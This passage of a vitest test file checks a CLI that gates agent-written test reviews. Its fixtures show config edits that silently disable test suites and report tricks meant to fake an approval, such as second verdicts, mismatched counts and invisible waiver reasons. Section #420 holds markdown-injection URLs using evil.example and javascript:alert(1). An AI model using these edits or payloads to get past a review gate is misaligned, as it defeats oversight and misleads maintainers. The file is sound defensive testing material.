      'RSpec::Core::RakeTask.new(:spec) { |t| t.pattern = "x" }\n',
    ],
    ['.simplecov', { 'spec/a_spec.rb': 'x\n' }, '.simplecov', 'SimpleCov.start\n', 'SimpleCov.start { minimum_coverage 0 }\n'],
    ['Justfile', { 'tests/test_a.py': PY }, 'Justfile', 'test:\n\tpytest\n', 'test:\n\ttrue\n'],
    [
      'Django TEST_RUNNER',
      { 'app/tests.py': 'x = 1\n' },
      'proj/settings.py',
      'DEBUG = True\n',
      'DEBUG = True\nTEST_RUNNER = "proj.noop.Runner"\n',
    ],
    // Build systems' indirections.
    ['Directory.Build.rsp', { 'tests/A.Tests/ATests.cs': CS }, 'Directory.Build.rsp', '-p:Foo=1\n', '-p:IsTestProject=false\n'],
    [
      'dirs.proj',
      { 'tests/A.Tests/ATests.cs': CS },
      'dirs.proj',
      '<Project Sdk="Microsoft.Build.Traversal"><ItemGroup><ProjectReference Include="tests/**/*.csproj" /></ItemGroup></Project>\n',
      '<Project Sdk="Microsoft.Build.Traversal"><ItemGroup /></Project>\n',
    ],
    [
      'a props file Directory.Build.props imports',
      { 'tests/A.Tests/ATests.cs': CS, 'Directory.Build.props': '<Project><Import Project="eng\\test.props" /></Project>\n' },
      'eng/test.props',
      PROPS('true'),
      PROPS('false'),
    ],
    [
      'a props file under build/',
      { 'tests/A.Tests/ATests.cs': CS, 'Directory.Build.props': '<Project><Import Project="build/common.props" /></Project>\n' },
      'build/common.props',
      PROPS('true'),
      PROPS('false'),
    ],
    [
      'a Gradle included build settings.gradle.kts names',
      { 'src/test/java/ATest.java': JAVA, 'settings.gradle.kts': 'pluginManagement { includeBuild(file("gradle/conventions")) }\n' },
      'gradle/conventions/src/main/kotlin/TestConventions.kt',
      'class TestConventions\n',
      'class TestConventions { /* tasks.withType<Test> { enabled = false } */ }\n',
    ],
    [
      "Gradle's build-logic",
      { 'src/test/java/ATest.java': JAVA },
      'build-logic/src/main/kotlin/TestConventions.kt',
      'class TestConventions\n',
      'class TestConventions { /* tasks.withType<Test> { enabled = false } */ }\n',
    ],
    [
      'gradle.properties',
      { 'src/test/java/ATest.java': JAVA, 'build.gradle': 'test { enabled = !project.hasProperty("skipTests") }\n' },
      'gradle.properties',
      'org.gradle.jvmargs=-Xmx1g\n',
      'org.gradle.jvmargs=-Xmx1g\nskipTests=true\n',
    ],
    [
      "surefire's excludesFile",
      {
        'src/test/java/ATest.java': JAVA,
        'pom.xml':
          '<project><build><plugins><plugin><artifactId>maven-surefire-plugin</artifactId><configuration><excludesFile>surefire-excludes.txt</excludesFile></configuration></plugin></plugins></build></project>\n',
      },
      'surefire-excludes.txt',
      '\n',
      '**/*\n',
    ],
    [
      'an Xcode scheme',
      { 'Tests/ATests.swift': 'x\n' },
      'App.xcodeproj/xcshareddata/xcschemes/App.xcscheme',
      '<Scheme><TestAction><Testables><TestableReference skipped="NO"/></Testables></TestAction></Scheme>\n',
      '<Scheme><TestAction><Testables><TestableReference skipped="YES"/></Testables></TestAction></Scheme>\n',
    ],
    [
      'a cabal test-suite',
      { 'test/Spec.hs': 'main = pure ()\n' },
      'x.cabal',
      'name: x\ntest-suite spec\n  main-is: Spec.hs\n',
      'name: x\n',
    ],
    [
      'hpack package.yaml',
      { 'test/Spec.hs': 'main = pure ()\n' },
      'package.yaml',
      'name: x\ntests:\n  spec:\n    main: Spec.hs\n',
      'name: x\n',
    ],
  ])('#532 %s: the edit is reviewed, never a passing skip', async (_name, tree, path, before, after) => {
    expect(await scopeOf({ ...tree, [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
  test('#532 a Babel config changed alone: not a skip, and a finding may name it', async () => {
    const dir = twoCommits(
      { 'src/a.test.js': JS, 'babel.config.js': 'module.exports = {};\n', 'tools/skip-tests.js': SKIP_ALL },
      { 'babel.config.js': "module.exports = { plugins: ['./tools/skip-tests'] };\n" },
    );
    const r = await review(
      dir,
      ownReport(
        ['babel.config.js'],
        [{ severity: 'Critical', row: 'C1', path: 'babel.config.js', line: 1, title: 'a plugin renames every test to xtest' }],
      ),
    );
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Block', files: ['babel.config.js'] });
    expect(r.verdict().skipped).toBeUndefined();
  });
  test('#532 source, documents, a lockfile no reader knows, a props dependency bump and a settings module without TEST_RUNNER stay a skip', async () => {
    const dir = twoCommits(
      {
        'src/x.ts': 'export const a = 1;\n',
        'README.md': '# app\n',
        'packages.lock.json': '{ "version": 1 }\n',
        'Directory.Packages.props': '<Project><ItemGroup><PackageVersion Include="Serilog" Version="3.0.0" /></ItemGroup></Project>\n',
        'proj/settings.py': 'DEBUG = True\n',
        'dist/index.js': 'export {};\n',
      },
      {
        'src/x.ts': 'export const a = 2;\n',
        'README.md': '# app\n\nMore.\n',
        'packages.lock.json': '{ "version": 2 }\n',
        'Directory.Packages.props': '<Project><ItemGroup><PackageVersion Include="Serilog" Version="3.1.0" /></ItemGroup></Project>\n',
        'proj/settings.py': 'DEBUG = False\n',
        'dist/index.js': 'export { a };\n',
      },
    );
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const v = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as { skipped?: boolean; contextFiles: string[] };
    expect(v.skipped).toBe(true);
    expect([...v.contextFiles].sort()).toEqual([
      'Directory.Packages.props',
      'README.md',
      'packages.lock.json',
      'proj/settings.py',
      'src/x.ts',
    ]);
  });
});

// Hazard 416: a table row naming a row, a file and its line in separate cells was read as the file
// with no line; counts restated beside a severity outside **Total Violations** were never compared
// with it. Each exited 0 (Approve 100) while a reader sees a blocking problem.
describe('#416 a row, a file and a line in cells, or a count restated beside a severity, is read', () => {
  const FOCUSED = "import { test, expect } from 'vitest';\n\ntest.only('adds', () => {\n  expect(1 + 2).toBe(3);\n});\n";
  const dir = repoWith({ 'tests/a.spec.ts': FOCUSED });
  const section = (text: string) => clean.replace('## Decision', `${text}\n\n## Decision`);
  test.each([
    [
      'the line in the next cell',
      '| Row | File | Line | Issue |\n| --- | --- | --- | --- |\n| C2 | tests/a.spec.ts | 3 | .only committed |',
    ],
    [
      'the line in a later cell',
      '| Row | File | Issue | Line |\n| --- | --- | --- | --- |\n| C2 | tests/a.spec.ts | .only committed | 3 |',
    ],
    ['the line in an earlier cell under a line header', '| Line | File | Row |\n| --- | --- | --- |\n| 3 | tests/a.spec.ts | C2 |'],
    ['the file in code, the line as "line 3"', '| Row | File | Where |\n| --- | --- | --- |\n| C2 | `tests/a.spec.ts` | line 3 |'],
  ])('#416 %s, under a heading that is not a findings heading: exit 3', async (_, table) => {
    const r = await review(dir, section(`## Notes\n\n${table}`));
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/names row C2, tests\/a\.spec\.ts with its line written/);
  });
  test.each([
    ['a labelled line of counts', '**Violations found**: 1 Critical, 2 High, 0 Medium, 0 Low', /1 Critical/],
    ['a labelled line of two counts', '**Issues**: 1 Critical, 2 High', /1 Critical/],
    ['a bullet', '- Critical: 1', /1 Critical/],
    ['a bullet of a P-number', '- P1: 2', /2 High/],
    ['prose', 'The review found 2 high-severity problems.', /2 High/],
    ['prose over two lines of a paragraph', 'The review found 1\ncritical violation.', /1 Critical/],
    ['a table cell', '| Summary |\n| --- |\n| 1 Critical, 0 High |', /1 Critical/],
    [
      'a per-file table with severity columns',
      '| File | Critical | High |\n| --- | --- | --- |\n| tests/a.spec.ts | 1 | 0 |',
      /1 Critical/,
    ],
    [
      'severities as column headers, a row of counts',
      '| Critical | High | Medium | Low |\n| --- | --- | --- | --- |\n| 1 | 0 | 0 | 0 |',
      /1 Critical/,
    ],
    ['a two-column table', '| Critical | 1 |\n| --- | --- |\n| High | 0 |', /1 Critical/],
  ])('#416 counts restated as %s, with **Total Violations** at 0: exit 3 quoting the line', async (_, text, said) => {
    const r = await review(dir, section(`## Summary of Issues\n\n${text}`));
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(said);
    expect(r.stderr).toMatch(/\*\*Total Violations\*\* counts 0/);
  });
  test.each([
    [
      'counts that agree',
      '**Violations found**: 0 Critical, 0 High, 0 Medium, 0 Low',
      '**Violations found**: 0 Critical, 0 High, 1 Medium, 0 Low',
    ],
    ['a negation', 'No Critical or High issues; - Critical: none.', 'No Critical or High issues; - Critical: 1.'],
    [
      'a table of zeros',
      '| Critical | High | Medium | Low |\n| --- | --- | --- | --- |\n| 0 | 0 | 0 | 0 |',
      '| Critical | High | Medium | Low |\n| --- | --- | --- | --- |\n| 0 | 0 | 0 | 1 |',
    ],
    [
      'a table by part with its total',
      '| Part | Critical | High |\n| --- | --- | --- |\n| setup | 0 | 0 |\n| **Total** | 0 | 0 |',
      '| Part | Critical | High |\n| --- | --- | --- |\n| setup | 0 | 0 |\n| **Total** | 0 | 1 |',
    ],
    [
      'the score caps and a duration',
      'Caps: Critical 69, High 79, Medium 89, Low 99; a wait of 2s at High: 2s.',
      'Caps: Critical 69; High: 2.',
    ],
  ])('#416 %s: read and passed (exit 0), and refused (exit 3) once a count disagrees', async (_, agrees, disagrees) => {
    const spec = repoWith({ 'tests/a.spec.ts': SPEC });
    const ok = await review(spec, section(`## Summary of Issues\n\n${agrees}`));
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    const wrong = await review(spec, section(`## Summary of Issues\n\n${disagrees}`));
    expect(wrong.code, wrong.stdout + wrong.stderr).toBe(3);
    expect(wrong.stderr).toMatch(/\*\*Total Violations\*\* counts 0/);
  });
  test('#416 a per-part table is summed and a table of earlier reviews is theirs: read (exit 1, the High counted), refused once the sum disagrees', async () => {
    const tables = [
      '| Part | Critical | High |\n| --- | --- | --- |\n| setup | 0 | 1 |\n| body | 0 | 0 |',
      '| Review Date | Score | Critical Issues |\n| --- | --- | --- |\n| 2026-01-02 | 60/100 | 1 |',
    ].join('\n\n');
    const spec = repoWith({ 'tests/a.spec.ts': SPEC });
    const r = await review(spec, high.replace('## Decision', `## Totals\n\n${tables}\n\n## Decision`));
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ violations: { critical: 0, high: 1 } });
    const wrong = await review(
      spec,
      high.replace('## Decision', `## Totals\n\n${tables.replace('| body | 0 | 0 |', '| body | 0 | 1 |')}\n\n## Decision`),
    );
    expect(wrong.code, wrong.stdout + wrong.stderr).toBe(3);
    expect(wrong.stderr).toMatch(/states 2 High/);
  });
  test('#416 the published copy of a report whose pre-existing finding is cut keeps its restated counts (exit 0); a restated count the agent did not count is refused', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}\ntest('subtracts', () => {\n  expect(3 - 2).toBe(1);\n});\n`);
    commitAll(dir, 'more tests');
    const low = ownReport(['tests/a.spec.ts'], [{ severity: 'Low', row: 'L3', path: 'tests/a.spec.ts', line: 4, title: 'Magic number' }]);
    const stated = (n: number) => low.replace('## Decision', `## Summary of Issues\n\n- Low: ${n}\n\n## Decision`);
    const r = await review(dir, stated(1));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ preExistingFindingsCut: 1, violations: { low: 0 } });
    const wrong = await review(dir, stated(2));
    expect(wrong.code, wrong.stdout + wrong.stderr).toBe(3);
    expect(wrong.stderr).toMatch(/states 2 Low/);
  });
  test('#416 a level and count table that gives one severity the count of another: exit 3, not only a total compared', async () => {
    const r = await review(
      repoWith({ 'tests/a.spec.ts': SPEC }),
      high.replace('## Decision', '## Totals\n\n| Level | Count |\n| --- | --- |\n| Critical | 1 |\n| High | 0 |\n\n## Decision'),
    );
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(/1 Critical/);
  });
});

describe('#427 the frontmatter holds only what the workflows write there: no claim stands where the verdict never reads', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const withFront = (lines: string) =>
    clean.replace('workflowType: testarch-test-review\n', `workflowType: testarch-test-review\n${lines}\n`);
  test.each([
    [
      'a verdict under a key of its own',
      'final_recommendation: Block',
      /frontmatter key "final_recommendation" is not one the test-review workflow writes/,
    ],
    ['a violation as a note', "notes: 'Critical: tests/a.spec.ts:3 is disabled (C1)'", /frontmatter key "notes"/],
    ['a claim as the last step', "lastStep: 'Critical: tests/a.spec.ts:3 is disabled'", /frontmatter lastStep must be a step name/],
    [
      'a claim among the steps',
      "stepsCompleted: ['step-01-load-context', 'Block this PR']",
      /frontmatter stepsCompleted must be a list of step names/,
    ],
    [
      'a claim as a document read',
      "inputDocuments: ['tests/a.spec.ts:3 is focused']",
      /frontmatter inputDocuments must be a list of file paths/,
    ],
    ['words as the date', "lastSaved: 'never: do not merge'", /frontmatter lastSaved must be a date/],
  ])('#427 %s → exit 3', async (_name, lines, reason) => {
    await expectRefused(dir, withFront(lines), reason);
  });

  test("#427 the TEA template's own keys, as its steps write them, are read as before", async () => {
    const front =
      "stepsCompleted: ['step-01-load-context', 'step-04-generate-report']\nlastStep: 'step-04-generate-report'\nlastSaved: '2026-07-29'\ninputDocuments: ['tests/a.spec.ts']";
    const r = await review(dir, withFront(front));
    expect(r.code, r.stdout + r.stderr).toBe(0);
  });
});

describe('#420 a run URL in the text test-review publishes', () => {
  const HOSTILE = 'https://github.com/o/r/actions/runs/1)![approved](https://evil.example/approved.svg) @everyone *bold* <img src=x>';
  test('#420 test-review render --run-url: a URL that would close the link early is one link to its own page, every markup character encoded', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    expect((await review(dir, clean)).code).toBe(0);
    const r = await cliCase(dir, ['test-review', 'render', '--verdict', 'v.json', '--run-url', HOSTILE]);
    expect(r.code, r.stderr).toBe(0);
    const html = renderGfm(r.stdout);
    expect(linksAndImages(html)).toEqual([
      'https://github.com/o/r/actions/runs/1%29%21%5Bapproved%5D%28https://evil.example/approved.svg%29%20%40everyone%20%2Abold%2A%20%3Cimg%20src=x%3E',
    ]);
    expect(html).not.toMatch(/<img|<strong>|@everyone/);
  });
  test.each([
    'javascript:alert(1)',
    '//evil.example/x',
    'https://user:pw@ci.example/run/1',
    'https://a(b).example/run',
    'ci.example/run/1',
  ])('#420 test-review render and test-review refuse --run-url %j (exit 2), naming the option', async (url) => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    for (const args of [
      ['test-review', 'render', '--verdict', 'v.json', '--run-url', url],
      ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--run-url', url],
    ]) {
      const r = await cliCase(dir, args);
      expect(r.code, r.stdout + r.stderr).toBe(2);
      expect(r.stderr).toContain('--run-url must be an absolute https:// or http:// URL, without a user name or password');
    }
  });
});

describe('#421 test-review render takes the verdict, not what it is told of it', () => {
  const CRITICAL = ownReport(
    ['tests/a.spec.ts'],
    [{ severity: 'Critical', row: 'C3', path: 'tests/a.spec.ts', line: 4, title: 'Compares a literal' }],
  );
  /** A Block verdict a run wrote (exit 1), and the head it reviewed. */
  async function blocked() {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    const r = await review(dir, CRITICAL);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    const verdict = r.verdict();
    expect(verdict).toMatchObject({ recommendation: 'Block', gateFailures: [expect.stringMatching(/Block/)] });
    return { dir, verdict, head: headSha(dir) };
  }
  const render = (dir: string, verdict: object, ...extra: string[]) => {
    writeFileSync(join(dir, 'w.json'), JSON.stringify(verdict));
    return cliCase(dir, ['test-review', 'render', '--verdict', 'w.json', ...extra]);
  };

  test('#421 the verdict of another commit is refused for --head-sha (exit 2); its own head renders', async () => {
    const { dir, verdict, head } = await blocked();
    const other = git(dir, 'rev-parse', 'HEAD~1').trim();
    const r = await render(dir, verdict, '--head-sha', other);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`--head-sha "${other}" is not the commit the verdict reviewed ("${head}")`);
    const own = await render(dir, verdict, '--head-sha', head);
    expect(own.code, own.stderr).toBe(0);
    expect(own.stdout).toContain(`## Test quality: Fail: Block`);
  });

  test.each([
    [
      'no gateFailures',
      (v: Record<string, unknown>) => ({ ...v, gateFailures: undefined }),
      /lists no gate failure, yet every setting fails it: Verdict "Block"/,
    ],
    ['empty gateFailures', (v: Record<string, unknown>) => ({ ...v, gateFailures: [] }), /lists no gate failure/],
    [
      'Approve over a Critical count',
      (v: Record<string, unknown>) => ({ ...v, recommendation: 'Approve', gateFailures: [] }),
      /recommendation "Approve" is not "Block"/,
    ],
    [
      'its counts zeroed beside the real ones',
      (v: Record<string, unknown>) => ({
        ...v,
        gatingViolations: { critical: 0, high: 0, medium: 0, low: 0 },
        recommendation: 'Approve',
        gateFailures: [],
      }),
      /gating counts or score are not its own/,
    ],
  ])('#421 a Block verdict with %s renders no pass under any --exit-code but a broken gate: exit 2', async (_name, edit, reason) => {
    const { dir, verdict } = await blocked();
    for (const extra of [[], ['--exit-code', '0'], ['--as', 'conclusion']]) {
      const r = await render(dir, edit(verdict), ...extra);
      expect(r.code, r.stdout).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(reason);
    }
    expect((await render(dir, edit(verdict), '--exit-code', '3')).stdout).toContain('## Test quality: Broken gate');
  });

  test('#421 a skip that removed a test file, its gate failure taken out: exit 2, not Skipped', () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    git(dir, 'rm', '-q', 'tests/a.spec.ts');
    commitAll(dir, 'delete');
    expect(cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']).code).toBe(1);
    const verdict = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>;
    expect(verdict).toMatchObject({ skipped: true, gateFailures: [expect.any(String)] });
    writeFileSync(join(dir, 'w.json'), JSON.stringify({ ...verdict, gateFailures: undefined }));
    const r = cli(dir, ['test-review', 'render', '--verdict', 'w.json', '--as', 'conclusion']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/lists no gate failure, yet every setting fails it: only test deletions in diff/);
  });

  test.each([
    ['waived alone', { waived: true }, /not a test-review verdict/],
    ['a reason and no expiry', { waived: true, waiveReason: 'freeze' }, /not a test-review verdict/],
    ['an expiry and not waived', { waiveReason: 'freeze', waiveUntil: '2999-01-01' }, /not a test-review verdict/],
    ['a blank reason', { waived: true, waiveReason: ' ', waiveUntil: '2999-01-01' }, /its waiver names no reason/],
    [
      'an expiry now past',
      { waived: true, waiveReason: 'freeze', waiveUntil: '2020-01-01' },
      /its waiver no longer holds: 2020-01-01 is not in the future/,
    ],
    [
      'a date no calendar has',
      { waived: true, waiveReason: 'freeze', waiveUntil: '2999-02-30' },
      /its waiver no longer holds: must be a real date/,
    ],
  ])('#618 a Block verdict with a waiver of %s renders no pass: exit 2', async (_name, waiver, reason) => {
    const { dir, verdict } = await blocked();
    for (const extra of [[], ['--as', 'conclusion'], ['--exit-code', '0']]) {
      const r = await render(dir, { ...verdict, ...waiver }, ...extra);
      expect(r.code, r.stdout).toBe(2);
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(reason);
    }
    // A waiver that still holds renders as one, as the run that wrote it said.
    const held = await render(dir, { ...verdict, waived: true, waiveReason: 'freeze', waiveUntil: '2999-01-01' }, '--as', 'conclusion');
    expect([held.code, held.stdout.trim()]).toEqual([0, 'success']);
  });

  test('#618 a skip waived with nothing to waive is not a verdict a run writes', () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    writeFileSync(join(dir, 'src.js'), 'export const a = 1;\n');
    commitAll(dir, 'code only');
    expect(cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']).code).toBe(0);
    const verdict = JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>;
    expect(verdict).toMatchObject({ skipped: true });
    writeFileSync(
      join(dir, 'w.json'),
      JSON.stringify({ ...verdict, gateFailures: [], waived: true, waiveReason: 'freeze', waiveUntil: '2999-01-01' }),
    );
    const r = cli(dir, ['test-review', 'render', '--verdict', 'w.json', '--as', 'conclusion']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/it is waived with no gate failure to waive/);
  });

  /** Reasons with no character a person can read: a zero-width space, a Hangul filler, a braille blank, a soft hyphen, marks alone. */
  const INVISIBLE: [string, string][] = [
    ['U+200B', '\u200b'],
    ['U+3164', '\u3164'],
    ['U+2800', '\u2800'],
    ['U+00AD', '\u00ad'],
    ['U+200B U+FEFF U+0301', '\u200b\ufeff\u0301'],
  ];

  test.each(INVISIBLE)(
    '#661 a waiver whose reason is %s is refused (exit 2) by the CLI, and the removed test file still fails',
    (_name, reason) => {
      const dir = repoWith({ 'tests/a.spec.ts': SPEC });
      git(dir, 'rm', '-q', 'tests/a.spec.ts');
      commitAll(dir, 'delete');
      const waived = cli(dir, [
        'test-review',
        '--base',
        'HEAD~1',
        '--agent',
        'none',
        '--json',
        'v.json',
        '--waive',
        reason,
        '--waive-until',
        '2999-01-01',
      ]);
      expect([waived.code, waived.stdout], waived.stderr).toEqual([2, '']);
      expect(waived.stderr).toMatch(/--waive needs a reason: a letter or a digit a person can read/);
      expect(existsSync(join(dir, 'v.json'))).toBe(false);
      // A reason a person reads waives it, as before.
      const held = cli(dir, [
        'test-review',
        '--base',
        'HEAD~1',
        '--agent',
        'none',
        '--json',
        'v.json',
        '--waive',
        'freeze',
        '--waive-until',
        '2999-01-01',
      ]);
      expect(held.code, held.stderr).toBe(0);
    },
  );

  test.each(INVISIBLE)(
    '#661 a Block verdict waived for the reason %s renders no pass: exit 2, its waiver names no reason',
    async (_name, reason) => {
      const { dir, verdict } = await blocked();
      for (const extra of [[], ['--as', 'conclusion'], ['--exit-code', '0']]) {
        const r = await render(dir, { ...verdict, waived: true, waiveReason: reason, waiveUntil: '2999-01-01' }, ...extra);
        expect(r.code, r.stdout).toBe(2);
        expect(r.stdout).toBe('');
        expect(r.stderr).toMatch(/its waiver names no reason/);
      }
    },
  );
});

describe("#565 a Python test moved out of the folders pytest's testpaths collect is removed coverage", () => {
  const PY_TEST = 'def test_refuses_a_wrong_password():\n    assert 2 + 2 == 4\n';
  const CONFIGS: [string, string][] = [
    ['pytest.ini', '[pytest]\ntestpaths = tests\n'],
    ['pyproject.toml', '[project]\nname = "app"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests", "integration/*"]\n'],
    ['setup.cfg', '[metadata]\nname = app\n\n[tool:pytest]\ntestpaths =\n    tests\n    integration\n'],
    ['tox.ini', '[tox]\nenvlist = py3\n\n[pytest]\ntestpaths = tests integration\n'],
  ];
  const moved = async (config: [string, string], from: string, to: string) => {
    const dir = repoWith({ [config[0]]: config[1], [from]: PY_TEST });
    mkdirSync(join(dir, to, '..'), { recursive: true });
    git(dir, 'mv', from, to);
    commitAll(dir, 'move');
    const r = await cliCase(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    return JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8')) as Record<string, unknown>;
  };
  test.each(CONFIGS)(
    '#565 %s: tests/test_auth.py moved to scripts/test_auth.py, which its testpaths do not take, is removed coverage',
    async (...config) => {
      expect(await moved(config, 'tests/test_auth.py', 'scripts/test_auth.py')).toMatchObject({
        removedTests: [{ path: 'tests/test_auth.py', renamedTo: 'scripts/test_auth.py' }],
      });
    },
  );
  test.each(CONFIGS)('#565 %s: a move within what its testpaths take is no removal', async (...config) => {
    const to = config[0] === 'pytest.ini' ? 'tests/unit/test_auth.py' : 'integration/api/test_auth.py';
    expect(await moved(config, 'tests/test_auth.py', to)).not.toHaveProperty('removedTests');
  });
  test('#565 a pyproject.toml without pytest settings leaves the folder to a pytest.ini above it', async () => {
    const dir = repoWith({
      'pytest.ini': '[pytest]\ntestpaths = pkg/tests\n',
      'pkg/pyproject.toml': '[project]\nname = "pkg"\n',
      'pkg/tests/test_auth.py': PY_TEST,
    });
    mkdirSync(join(dir, 'pkg/tools'), { recursive: true });
    git(dir, 'mv', 'pkg/tests/test_auth.py', 'pkg/tools/test_auth.py');
    commitAll(dir, 'move');
    expect(await removedInPrompt(dir)).toMatchObject({
      removedTests: [{ path: 'pkg/tests/test_auth.py', renamedTo: 'pkg/tools/test_auth.py' }],
    });
  });
});

/** The clean Approve 100 report with `text` under `## Summary`: refused (exit 3), naming a line of it. */
function refusedUnderSummary(text: string, report = clean.replace('## Decision', `## Summary\n\n${text}\n\n## Decision`)) {
  const line = report.split('\n').indexOf(text.split('\n')[0]!) + 1;
  let error: unknown;
  try {
    parseReport(report, { registry: PACKAGED_REGISTRY });
  } catch (e) {
    error = e;
  }
  expect(error).toBeInstanceOf(ProofgateError);
  expect((error as ProofgateError).exitCode).toBe(TEST_REVIEW_EXIT.agent);
  const lines = text.split('\n').map((_, k) => line + k);
  if (line > 0) expect((error as Error).message).toMatch(new RegExp(`line (?:${lines.join('|')})\\b|Total Violations`));
}

describe('#566 a count beside a severity in words, after a dash, a slash or a bracket, is the Total Violations count', () => {
  test.each([
    'The review found one Critical violation and two High violations.',
    '**Violations found**: one Critical, two High',
    '- Critical: one\n- High: two',
    '| Critical | High |\n| --- | --- |\n| one | two |',
    'A single critical violation remains in the suite.',
    '- Critical — 1\n- High — 0',
    'Critical violations found — 1',
    'Critical / 1',
    'Critical findings (1)',
    'Critical ×1',
  ])('#566 %s: refused (exit 3), never Approve 100', (text) => refusedUnderSummary(text));
  test('#566 text beside the four counts on the Total Violations line: refused', () =>
    refusedUnderSummary('', clean.replace('0 Medium, 0 Low', '0 Medium, 0 Low (excluding one Critical)')));
  test('#566 counts that agree, and a level in words that counts nothing, are read as they are', () => {
    const report = clean.replace('## Decision', '## Summary\n\nNo Critical — 0 found; a high bar for fixtures.\n\n## Decision');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).qualityScore).toBe(100);
  });
});

describe('#567 a verdict under any label is a second verdict', () => {
  test.each([
    '**Outcome**: Block',
    '**Result**: Block',
    '**Overall Assessment**: Block',
    '**Conclusion**: Request Changes',
    '**Final call**: Request Changes',
    '> **Assessment**: Block',
    '| Item | Value |\n| --- | --- |\n| Outcome | Block |',
    'Summary → Block',
    '**Status**: Do not merge',
  ])('#567 %s: refused (exit 3), never Approve 100', (text) => refusedUnderSummary(text));
});

describe('#568 a second score or grade under another label is a second score', () => {
  test.each([
    '**Final Quality Score**: 40/100',
    '**Quality Score (adjusted)**: 40/100',
    '**Score**: 40/100',
    '**Overall Score**: 40/100 (F)',
    '| Metric | Value |\n| --- | --- |\n| Final Score | 40/100 |',
    'The suite scores 40/100.',
    '**Quality Grade**: F',
  ])('#568 %s: refused (exit 3), never Approve 100/100', (text) => refusedUnderSummary(text));
  test('#568 the same score and grade restated are read as they are', () => {
    const report = clean.replace('## Decision', '## Summary\n\nThe suite scores 100/100.\n\n**Quality Grade**: A\n\n## Decision');
    expect(parseReport(report, { registry: PACKAGED_REGISTRY }).qualityScore).toBe(100);
  });
});

describe('#635 the source lint (npm run lint, scripts/regex-runs.mjs) refuses a run anchored at the end that can start in many places', () => {
  const refused: [string, string][] = [
    ['^[ \\t\\r\\n]+|[ \\t\\r\\n]+$', 'g'],
    ['[ \\t]+$', ''],
    ['\\s+$', ''],
    ['\\s*$', 'u'],
    ['[\\r\\n]+$', ''],
    ['\\/+$', ''],
    ['(?:\\.(?:bak|orig)|~)+$', ''],
    ['#.*$', ''],
    ['^##\\s+(.+?)\\s*#*\\s*$', ''],
    ['^(a|\\s+)\\s{2,}$', ''],
    ['^\\s*$', 'm'],
  ];
  const passed: [string, string][] = [
    ['^[0-9]+$', ''],
    ['^[A-Za-z_]\\w*$', ''],
    [':[^:]*$', ''],
    ['(?<!\\s)\\s+$', 'u'],
    ['\\(.*$', 's'],
    ['^(\\d+:\\d+) (\\d+) (.+)$', ''],
    ['^:\\d+(?:[:-]\\d+)*$', ''],
    ['^[ \\t]*$', 'm'],
  ];
  lintCases('#635', refused, passed);
});

// Hazard 637: the patterns the #635 lint flagged. A heading or block title an agent writes with a long run of spaces
// inside it made `(.+?)\s*#*\s*$` retry its tail from every place of the run, for each split of the spaces (half a MiB:
// far past minutes), and a table's delimiter row `|-` then spaces then a letter was split every way between two runs.
describe('#637 a report line with a long run of spaces inside it is read in linear time', () => {
  const run = ' '.repeat(512 * 1024);
  test.each([
    ['a level-2 heading "## a", 512 KiB of spaces, "b"', `\n## a${run}b\n`],
    ['a delimiter row "|-", 512 KiB of spaces, "x" under a line of text', `\ntext\n|-${run}x\n`],
  ])('#637 a report holding %s finishes within a CPU bound', async (_, line) => {
    const dir = twoCommits({ 'tests/a.spec.ts': SPEC }, { 'tests/a.spec.ts': SPEC.replace('3', '3 ') });
    const r = await bounded(dir, clean + line);
    // Read and judged (accepted or refused for its shape), never killed at the bound.
    expect([0, 1, 3], r.stdout + r.stderr).toContain(r.code);
    expect(r.cpuMs).toBeLessThan(15_000);
  });
});

describe('#637 the source lint knows the atomic group and `.*$` under `m`', () => {
  const passed: [string, string][] = [
    ['^ {0,3}(?=(`{3,}|~{3,}))\\1(.*)$', ''],
    ['^#!.*?\\bnix-shell\\b(.*)$', 'gm'],
    ['^a(?=( +))\\1(.*)$', ''],
  ];
  const refused: [string, string][] = [
    ['(?=(\\s*))\\1\\s*$', ''],
    ['^ {0,3}(`{3,}(?=[^`]*$)|~{3,})(.*)$', ''],
    ['^##\\s+(.+?)\\s*#*\\s*$', 'm'],
    ['[^a]*$', 'm'],
  ];
  lintCases('#637', refused, passed);
});

// Hazard 658: `^` under `m` starts a run at every line, and a run that can take a line end then scans to the
